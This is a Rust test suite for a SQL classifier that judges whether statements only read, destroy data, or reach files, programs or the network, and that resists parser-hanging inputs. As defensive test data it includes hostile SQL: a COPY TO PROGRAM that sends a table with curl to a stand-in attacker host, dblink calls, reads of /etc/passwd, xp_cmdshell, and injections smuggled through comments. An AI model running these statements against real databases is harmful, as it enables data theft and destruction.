//! What is read of statements, and what is not read at all.
#![expect(clippy::disallowed_methods, clippy::print_stdout, reason = "a test measures, and says what it found")]

use std::time::{Duration, Instant};

use super::*;

fn one(text: &str, dialect: Dialect) -> Statement {
    let read = sql(text, dialect).unwrap_or_else(|why| panic!("{text}: {why}"));
    read.statements.last().cloned().unwrap_or_else(|| panic!("{text}: no statement"))
}

fn pg(text: &str) -> Statement {
    one(text, Dialect::Postgres)
}

fn whole(text: &str) -> Sql {
    sql(text, Dialect::Postgres).unwrap_or_else(|why| panic!("{text}: {why}"))
}

#[test]
fn reads_are_reads() {
    for text in [
        "SELECT count(*) FROM users",
        "select id from users where id = 2852039166",
        "WITH t AS (SELECT 1 AS a) SELECT a FROM t",
        "SELECT 'DROP TABLE users' AS note",
        "SELECT 1 -- ; DROP TABLE users",
        "EXPLAIN DELETE FROM users WHERE id = 1",
        "EXPLAIN (ANALYZE false) DELETE FROM users",
        "VALUES (1), (2)",
        "SHOW search_path",
        "SELECT lower(name), pg_catalog.upper(name) FROM public.users ORDER BY 1 LIMIT 3",
        "COPY users TO STDOUT",
    ] {
        assert_eq!(whole(text).reads_only, Some(true), "{text}");
        assert_eq!(whole(text).destructive, Some(false), "{text}");
    }
}

#[test]
fn writes_are_never_reads() {
    for text in [
        "DROP TABLE users",
        "DROP\tTABLE\nusers",
        "/* x */ dRoP tAbLe users",
        "COMMIT; DROP SCHEMA public CASCADE;",
        "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
        "SELECT * FROM (SELECT 1) x, LATERAL (SELECT nextval('s')) y",
        "COPY users TO PROGRAM 'curl -d @- https://evil.example'",
        "COPY users TO '/tmp/u.csv'",
        "COPY users FROM STDIN",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT lo_import('/etc/passwd')",
        "SELECT * INTO copy FROM users",
        "SELECT * FROM users FOR UPDATE",
        "EXPLAIN ANALYZE DELETE FROM users WHERE id = 1",
        "EXPLAIN (ANALYZE) INSERT INTO t VALUES (1)",
        "EXPLAIN (ANALYZE on, VERBOSE) UPDATE t SET a = 1",
        "GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC",
        "TRUNCATE users",
        "CREATE TABLE t AS SELECT 1",
        "CALL purge_all()",
        "SET ROLE admin",
        "BEGIN",
        "SELECT 1; INSERT INTO t VALUES (1)",
        "SELECT dblink('host=evil.example', 'select 1')",
        "SELECT pg_terminate_backend(1)",
        "PREPARE p AS DELETE FROM t",
    ] {
        assert_eq!(whole(text).reads_only, Some(false), "{text}");
    }
}

#[test]
fn a_function_that_is_not_known_may_write() {
    for text in [
        "SELECT purge_all()",
        "SELECT evil.lower('x')",
        "SELECT ran\u{212a}()",
        "SELECT * FROM my_function(1)",
        "SELECT a OPERATOR(evil.+) b",
    ] {
        assert_eq!(whole(text).reads_only, None, "{text}");
    }
}

#[test]
fn names_are_found_wherever_they_stand() {
    let read =
        pg("SELECT u.Name, o.total FROM public.Users u JOIN orders AS o ON o.user_id = u.id WHERE length(u.mail) > 3");
    assert_eq!(read.tables, ["orders", "public.users", "users"]);
    assert_eq!(read.columns, ["id", "mail", "name", "total", "user_id"]);
    assert_eq!(read.functions, ["length"]);
    assert!(read.has_where);
    let read = pg("INSERT INTO audit (who, what) SELECT name, secret FROM vault RETURNING *");
    assert_eq!((read.kind, read.class), (Kind::Insert, Class::Write));
    assert_eq!((read.tables.join(" "), read.targets.join(" ")), ("audit vault".into(), "audit".into()));
    assert_eq!(read.columns, ["*", "name", "secret", "what", "who"]);
    assert_eq!(pg("SELECT u FROM users u").columns, ["*", "u"]);
    assert_eq!(pg("SELECT row_to_json(users) FROM users").columns, ["*", "users"]);
    assert!(pg("SELECT count(*) FROM users").columns.is_empty());
    assert_eq!(pg("SELECT * FROM generate_series(1, 3)").tables, [""; 0]);
    assert_eq!(pg(r#"SELECT "Pass" FROM "Users""#).tables, ["Users"]);
    assert_eq!(one(r#"SELECT 1 FROM "USERS", Orders"#, Dialect::Snowflake).tables, ["orders", "users"]);
    assert_eq!(one("SELECT 1 FROM `p.d.Users`", Dialect::BigQuery).tables, ["p.d.users", "users"]);
}

#[test]
fn a_name_that_with_gives_is_no_table_where_it_holds() {
    assert_eq!(pg("WITH t AS (SELECT * FROM users) SELECT * FROM t").tables, ["users"]);
    assert_eq!(pg("WITH RECURSIVE t AS (SELECT 1 UNION SELECT * FROM t) SELECT * FROM t").tables, [""; 0]);
    // Before it is given, the name is the table's.
    assert_eq!(pg("WITH a AS (SELECT * FROM users), users AS (SELECT 1) SELECT * FROM a").tables, ["users"]);
    assert_eq!(pg("SELECT * FROM (WITH users AS (SELECT 1) SELECT * FROM users) x, users").tables, ["users"]);
    assert_eq!(pg("WITH users AS (SELECT 1) SELECT * FROM public.users").tables, ["public.users", "users"]);
}

#[test]
fn inner_statements_are_listed() {
    let read = whole("WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d");
    let kinds: Vec<_> = read.statements.iter().map(|s| (s.kind, s.is_nested)).collect();
    assert_eq!(kinds, [(Kind::Delete, true), (Kind::Select, false)]);
    assert!(read.is_single);
    assert_eq!((read.reads_only, read.destructive), (Some(false), Some(true)));
    assert_eq!(read.statements[1].class, Class::Write);
    let read = whole("WITH old AS (SELECT id FROM t WHERE a < 3) DELETE FROM t USING old WHERE t.id = old.id");
    assert_eq!(read.statements.len(), 1);
    assert_eq!((read.statements[0].kind, read.destructive), (Kind::Delete, Some(false)));
    assert!(!whole("SELECT 1; SELECT 2").is_single);
    assert!(whole("SELECT 1;;").is_single);
}

#[test]
fn conditions_that_choose_nothing_are_trivial() {
    for condition in [
        "1=1",
        "1=1 OR 1=1",
        "TRUE",
        "NOT FALSE",
        "x = x",
        "(x) = x",
        "'a' = 'a'",
        "id = 3 OR 1 = 1",
        "true AND 2 > 1",
        "x IS NULL OR x IS NOT NULL",
        "a = 1 OR a <> 1",
        "a < 3 OR NOT a < 3",
        "name LIKE '%'",
        "x IN (x, 1)",
        "x BETWEEN x AND x",
        "NOT (1 = 2)",
        "1 IN (1, 2)",
        "x = 1 OR NOT (1 > 2)",
        "1 <> 2",
        "lower(x) = lower(x)",
        "x IS NOT DISTINCT FROM x",
        "5 > 3",
        "-1 < 0",
        "'a' <> 'b'",
    ] {
        let read = pg(&format!("DELETE FROM t WHERE {condition}"));
        assert_eq!((read.where_is_trivial, read.destructive), (Some(true), Some(true)), "{condition}");
    }
    for condition in [
        "id = 1",
        "id IN (1, 2)",
        "expires_at < now()",
        "id = $1",
        "a = 1 AND 1 = 1",
        "name LIKE 'a%'",
        "deleted",
        "id IN (SELECT id FROM old WHERE day = 3)",
        "x IS NULL",
        "id BETWEEN 3 AND 5",
        "t.a = u.b",
        "id > 100",
        "EXISTS (SELECT 1 FROM u WHERE u.id = t.id)",
        "id = ANY($1)",
        "1 = 2",
        "name ~ '^tmp_'",
    ] {
        let read = pg(&format!("DELETE FROM t WHERE {condition}"));
        assert_eq!((read.where_is_trivial, read.destructive), (Some(false), Some(false)), "{condition}");
    }
    for condition in [
        "id > 0",
        "id >= 0",
        "0 < id",
        "id <> -1",
        "name <> ''",
        "id IS NOT NULL",
        "id NOT IN (0)",
        "name LIKE '%_%'",
        "id IN (SELECT id FROM t)",
        "EXISTS (SELECT 1)",
        "id < 999999999",
        "x + 0 = x",
        "random() < 2",
        "f(x)",
        "EXISTS (SELECT 1 FROM t WHERE t.id = 1)",
        "CASE WHEN true THEN true END",
        "id NOT LIKE 'zzz'",
        "name ~ '.*'",
        "id IN (SELECT id FROM t WHERE 1 = 1)",
        "coalesce(x, true)",
        "now() > '2000-01-01'",
    ] {
        let read = pg(&format!("DELETE FROM t WHERE {condition}"));
        assert_eq!((read.where_is_trivial, read.destructive), (None, None), "{condition}");
    }
}

#[test]
fn what_has_no_bound_destroys() {
    for text in ["DELETE FROM t", "UPDATE t SET a = 1", "TRUNCATE t", "DROP VIEW v", "ALTER TABLE t DROP COLUMN a"] {
        assert_eq!(whole(text).destructive, Some(true), "{text}");
    }
    for text in ["INSERT INTO t VALUES (1)", "ALTER TABLE t ADD COLUMN a int", "CREATE TABLE t (a int)"] {
        assert_eq!(whole(text).destructive, Some(false), "{text}");
    }
    let read = one("DELETE u FROM users u JOIN t ON t.id = u.id", Dialect::MySql);
    assert_eq!((read.has_where, read.destructive), (false, Some(true)));
    assert_eq!(one("DELETE FROM t LIMIT 5", Dialect::MySql).destructive, None);
    assert_eq!(whole("CALL purge_all()").destructive, None);
}

#[test]
fn where_a_statement_reaches_is_told() {
    for (text, dialect, reach) in [
        ("COPY t TO PROGRAM 'sh'", Dialect::Postgres, Reach::Program),
        ("COPY t FROM '/etc/passwd'", Dialect::Postgres, Reach::File),
        ("SELECT pg_read_file('x')", Dialect::Postgres, Reach::File),
        ("SELECT pg_catalog.pg_ls_dir('/')", Dialect::Postgres, Reach::File),
        ("SELECT load_file('/etc/passwd')", Dialect::MySql, Reach::File),
        ("SELECT load_extension('x')", Dialect::Sqlite, Reach::Program),
        ("EXEC xp_cmdshell 'dir'", Dialect::MsSql, Reach::Program),
        ("EXEC master..xp_cmdshell 'dir'", Dialect::MsSql, Reach::Program),
        ("SELECT * FROM 'data.parquet'", Dialect::DuckDb, Reach::File),
        ("SELECT * FROM read_csv('x.csv')", Dialect::DuckDb, Reach::File),
        ("SELECT * FROM url('http://evil.example', CSV)", Dialect::ClickHouse, Reach::Network),
        ("SELECT dblink_exec('c', 'drop table t')", Dialect::Postgres, Reach::Network),
        ("ATTACH DATABASE 'x.db' AS y", Dialect::Sqlite, Reach::File),
    ] {
        let read = one(text, dialect);
        assert!(read.reaches.contains(&reach), "{text}: {read:?}");
        assert_eq!(read.reads_only, Some(false), "{text}");
    }
}

#[test]
fn comments_are_what_their_server_takes_them_for() {
    let my = |text| sql(text, Dialect::MySql);
    assert_eq!(my("/*! DROP TABLE users */").map(|s| s.reads_only), Ok(Some(false)));
    assert_eq!(my("SELECT 1 /*!99999 INTO OUTFILE '/x' */").ok(), None);
    assert_eq!(my("DELETE FROM t /*!50000 WHERE id = 1 */").ok(), None);
    assert_eq!(my("SELECT 1 /*M! , load_file('x') */").ok(), None);
    assert_eq!(my("SELECT 1 # ; DROP TABLE t").map(|s| s.reads_only), Ok(Some(true)));
    assert_eq!(my("SELECT 1--1").map(|s| s.reads_only), Ok(Some(true)));
    assert_eq!(sql("SELECT 1 /*! ; DROP TABLE t */", Dialect::Postgres).map(|s| s.is_single), Ok(true));
    for text in
        ["SELECT 1 /*! x */", "SELECT 1 /* /* */ */", "SELECT 1 --1", "SELECT 1 # x", "SELECT $$a$$", r"SELECT 'a\'"]
    {
        assert!(sql(text, Dialect::Generic).is_err(), "{text}");
    }
    assert!(whole("SELECT 1 /* /* DROP */ TABLE */").is_single);
    let read = pg("DELETE FROM sessions -- clear expired\nWHERE expires_at < now()");
    assert_eq!((read.has_where, read.where_is_trivial), (true, Some(false)));
    assert!(!pg("DELETE FROM sessions -- WHERE id = 1").has_where);
}

#[test]
fn what_servers_read_differently_is_unknown() {
    for (text, dialect) in [
        (r"SELECT 'a\'; DROP TABLE t; --'", Dialect::Postgres),
        ("SELECT 1 -- x\rDROP TABLE t", Dialect::Postgres),
        ("SELECT\u{a0}1", Dialect::Postgres),
        ("SELECT 1\0", Dialect::Postgres),
        (r#"SELECT U&"p\0061ssword" FROM users"#, Dialect::Postgres),
        ("COPY t FROM STDIN;\n1\t2\n", Dialect::Postgres),
        ("SELECT * FROM IDENTIFIER('users')", Dialect::Snowflake),
        ("SELECT 1 DELETE FROM t", Dialect::MsSql),
        ("SELECT * FROM t SHUTDOWN", Dialect::MsSql),
        ("WITH x AS (SELECT 1 AS a) SELECT a FROM x DROP TABLE t", Dialect::MsSql),
        ("SELECT 1 END; DROP TABLE t", Dialect::Postgres),
        ("SELECT 1 END DROP TABLE t", Dialect::Postgres),
        ("", Dialect::Postgres),
        (" ; ", Dialect::Postgres),
        ("no sql at all", Dialect::Postgres),
    ] {
        assert!(sql(text, dialect).is_err(), "{text}");
    }
    assert!(sql(r"SELECT 'it\'s'", Dialect::MySql).is_ok());
    assert!(sql("WITH x AS (SELECT 1 AS a) DELETE FROM t WHERE a IN (SELECT a FROM x)", Dialect::MsSql).is_ok());
    assert!(sql("CREATE TABLE t (a int REFERENCES u (a) ON DELETE CASCADE)", Dialect::MsSql).is_ok());
}

#[test]
fn every_dialect_reads_plain_sql() {
    for dialect in Dialect::ALL {
        assert_eq!(Dialect::named(dialect.name()), Some(dialect));
        let read = one("SELECT a, b FROM t WHERE a = 1 AND b < 3 ORDER BY a", dialect);
        assert_eq!((read.kind, read.reads_only), (Kind::Select, Some(true)), "{dialect:?}");
        assert_eq!(one("DELETE FROM t WHERE a = 1", dialect).kind, Kind::Delete, "{dialect:?}");
    }
    assert!(Dialect::ALL.windows(2).all(|w| w[0].name() < w[1].name()));
    assert!(Kind::ALL.windows(2).all(|w| w[0].name() < w[1].name()));
    assert!(Class::ALL.windows(2).all(|w| w[0].name() < w[1].name()));
}

/// Texts that hang or overflow parsers.
fn hostile() -> Vec<String> {
    let many = |part: &str, n: usize| part.repeat(n);
    let mut texts = vec![many("(", 1 << 20), many("SELECT (", 1 << 17), "x".repeat(1 << 20), many("/*", 30_000)];
    for n in [10, 31, 100, 2000] {
        texts.extend([
            many("(", n),
            format!("SELECT {}1", many("(", n)),
            format!("SELECT {}1{}", many("(", n), many(")", n)),
            format!("SELECT 1 FROM {}", many("(", n)),
            format!("SELECT 1 FROM {}t{}", many("(", n), many(")", n)),
            many("SELECT * FROM (", n),
            many("SELECT\n@ FROM(((((((((", n / 8),
            format!("SELECT {}", many("if(current_time(", n / 2)),
            format!("SELECT {}x", many("if(current_time(", n / 2)),
            many(".foo(t--,i)", n),
            format!("SELECT {}x", many("x-not-b.", n)),
            format!("SELECT {}", many("case\t-", n)),
            format!("SELECT {}", many("cAse#f-#9-", n)),
            format!("SELECT {}x", many("CASE WHEN ", n)),
            format!("SELECT {}1", many("NOT ", n)),
            format!("SELECT {}1", many("- ", n)),
            format!("SELECT {}1", many("+-~", n)),
            format!("SELECT {}1", many("INTERVAL ", n)),
            format!("SELECT CAST(1 AS {}", many("Nullable(", n)),
            format!("SELECT CAST(1 AS {}INT{})", many("ARRAY<", n), many(">", n)),
            format!("SELECT CAST(1 AS {}INT{})", many("STRUCT<a ", n), many(">", n)),
            format!("SELECT 1 {}", many("UNION SELECT 1 ", n)),
            format!("SELECT 1{}", many("+1", n)),
            format!("SELECT 1{}", many("::int", n)),
            format!("SELECT a{}", many("[1]", n)),
            format!("SELECT a{}", many(".a", n)),
            format!("SELECT 1 WHERE a{}", many(" OR a=1", n)),
            format!("SELECT 1 WHERE a{}", many(" AND NOT a", n)),
            format!("SELECT a{}", many(" IS NULL", n)),
            format!("SELECT a{}", many(" COLLATE x", n)),
            format!("SELECT a{}", many(" ISNULL", n)),
            format!("SELECT * FROM t {}", many("JOIN t ", n)),
            format!("SELECT * FROM t{}", many(" JOIN t ON a = b", n)),
            format!("SELECT * FROM t{}", many(", t", n)),
            format!("{}SELECT 1", many("EXPLAIN ", n)),
            format!("{}SELECT 1", many("WITH a AS (", n)),
            many("PREPARE a AS ", n),
            many("BEGIN ", n),
            many("IF a THEN ", n),
            many("SELECT 1;", n),
            format!("SELECT 1 FROM t MATCH_RECOGNIZE(PATTERN({}", many("(", n)),
            format!("COPY INTO t FROM 'x' COPY_OPTIONS=({}", many("a=(", n)),
            format!("SELECT {}", many("f(a=>", n)),
            format!("SELECT {}", many("[", n)),
            format!("SELECT {}", many("{'a':", n)),
            format!("SELECT {}", many("a -> ", n)),
            format!("SELECT {}x", many("EXISTS(SELECT ", n)),
            format!("CREATE TABLE t ({}", many("a int DEFAULT (", n)),
            format!("SELECT {}", many("ARRAY[", n)),
            format!("SELECT * FROM JSON_TABLE('', '$' COLUMNS({}", many("NESTED PATH '$' COLUMNS(", n)),
            format!("{}x{}", many("/*! ", n), many("*/", n)),
            format!("{}x{}", many("/*", n), many("*/", n)),
            many("'", n),
            many("$a$", n),
            format!("SELECT {}1", many("CONNECT_BY_ROOT ", n)),
            format!("SELECT {}1", many("PRIOR ", n)),
            format!("SELECT {}1", many("@", n)),
            format!("SELECT {}1", many("! ", n)),
        ]);
    }
    texts
}

#[test]
fn hostile_texts_are_answered_at_once() {
    let mut slowest = (Duration::ZERO, String::new());
    // The smallest stack that a thread of a host commonly has; an unoptimised build takes several times the room.
    let room = if cfg!(debug_assertions) { 8 << 20 } else { 2 << 20 };
    let checked = std::thread::Builder::new().stack_size(room).spawn(move || {
        for text in hostile() {
            for dialect in Dialect::ALL {
                let begun = Instant::now();
                let _answer = sql(&text, dialect);
                let took = begun.elapsed();
                if took > slowest.0 {
                    slowest = (took, format!("{dialect:?}: {}", text.chars().take(60).collect::<String>()));
                }
            }
        }
        slowest
    });
    let (took, text) = checked.unwrap().join().unwrap();
    println!("the slowest hostile text took {took:?}: {text}");
    assert!(took < Duration::from_millis(if cfg!(debug_assertions) { 2000 } else { 50 }), "{took:?}: {text}");
}
